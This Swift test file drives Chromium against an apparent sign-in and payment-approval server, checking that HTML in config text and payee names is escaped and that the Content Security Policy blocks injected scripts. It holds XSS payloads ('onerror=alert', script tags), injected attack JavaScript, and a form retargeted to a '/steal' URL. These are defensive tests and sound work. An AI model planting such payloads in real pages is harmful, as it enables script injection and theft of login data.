import Assent
import AssentCore
import AssentPeers
import AssentServer
import Foundation
import HTTPTypes
import TestSupport
import Testing

@testable import AssentCLI
@testable import AssentDemo

@Suite("Pages that show what others wrote, in Chromium", .serialized)
struct HostilePageTests {
    private static let markup = #"<img src=x onerror=alert(1)><script>alert(2)</script></main><b>"#

    @Test("Markup in what the server's files say is text, and a script that gets into a page anyway does not run")
    func signIn() async throws {
        let change = { (yaml: String) in
            yaml.replacing("header: Sign in", with: "header: '\(Self.markup)'")
                .replacing("name: Bank app", with: "name: '<b>bank</b>'")
        }
        try await BrowserWorld.run(configuring: change) { person in
            let browser = person.browser
            let (running, url) = try await person.beginLogin()
            try await browser.open(url)
            #expect(try await browser.text("h1") == Self.markup)
            #expect(try await browser.title == Self.markup)
            #expect(try await browser.text(".lead") == "to continue to <b>bank</b>")
            #expect(try await browser.run("return document.querySelectorAll('script, img, b, iframe').length") == 0)
            #expect(try await browser.complaints == [])

            // What the page's policy forbids, if our escaping ever fails.
            let attacks = """
                document.body.insertAdjacentHTML('beforeend', '<p onclick="window.hit = 1" style="color: red">x</p>');
                document.body.lastElementChild.click();
                const script = document.createElement('script');
                script.textContent = 'window.hit = 2';
                document.body.append(script);
                const image = document.createElement('img');
                image.src = '/am/json/serverinfo/*';
                document.body.append(image);
                return [window.hit ?? 0, getComputedStyle(document.querySelector('p[style]')).color === 'rgb(255, 0, 0)' ? 1 : 0];
                """
            #expect(try await browser.run(attacks) == [0, 0])
            #expect(try await browser.complaints.filter { $0.contains("Content Security Policy") }.count >= 4)
            let away = """
                const form = document.querySelector('form');
                form.action = 'http://127.0.0.1:9/steal';
                form.noValidate = true;
                form.querySelector('button').click();
                """
            _ = try await browser.run(away)
            #expect(try await browser.complaints.contains { $0.contains("form-action") })
            #expect(try await browser.url.hasPrefix(person.world.endpoints.server))
            running.interrupt()
            #expect(await running.result().status != 0)
        }
    }

    @Test(
        "A payee with markup is text on the page that asks for the approval, which is then good for that request once")
    func approval() async throws {
        try await BrowserWorld.run { person in
            let browser = person.browser
            try await person.signIn()
            let token = try await person.program.run("token").output
            let body: JSONValue = ["to": .string(Self.markup), "amount": "200.00", "currency": "EUR"]
            let gateway = try #require(person.world.endpoints.gateway)
            // Each with a connection of its own: people take their time, and the gateway closes what is not used.
            func send(_ url: String) async throws -> HTTPReply {
                let transport = try NIOTransport(
                    configuration: NIOTransportConfiguration(
                        trustRoots: .pemFile(try #require(person.world.endpoints.authorityFile)),
                        pins: ["localhost": .pins(person.world.endpoints.pins)]
                    ).withLeastLimit(.seconds(Patience.seconds)))
                let fields: HTTPFields = [.authorization: "Bearer \(token)", .contentType: "application/json"]
                let call = try HTTPCall(
                    HTTPRequest(.post, url: url, headerFields: fields), body: HTTPBody(body.serializedBytes()))
                do {
                    let reply = try await transport.send(call)
                    await transport.shutdown()
                    return reply
                } catch {
                    await transport.shutdown()
                    throw error
                }
            }
            let refused = try await send(gateway + "/transfers")
            #expect(refused.status == 307)
            let location = try #require(refused.response.headerFields[.location])
            try await browser.open(location)
            #expect(try await browser.text("h1") == "Approve a request")
            try await browser.press("button.primary")
            #expect(try await browser.text(".summary").contains(Self.markup))
            #expect(try await browser.text(".summary").contains("200.00 EUR"))
            #expect(try await browser.run("return document.querySelectorAll('script, img, b, iframe').length") == 0)
            try await browser.press("button.primary")
            #expect(try await browser.text("h1") == "Confirm that it is you")
            #expect(try await browser.complaints == [])
            try await person.enterCode()
            let back = try #require(URLComponents(string: location)?.queryItems?.first { $0.name == "goto" }?.value)
            // A browser cannot send the request again: the page says so and stays.
            #expect(try await browser.text("h1") == "Approved")
            #expect(try await browser.url.hasPrefix(person.world.endpoints.server))
            #expect(try await send(back).status == 201)
            #expect(try await send(back).status == 409)
        }
    }
}
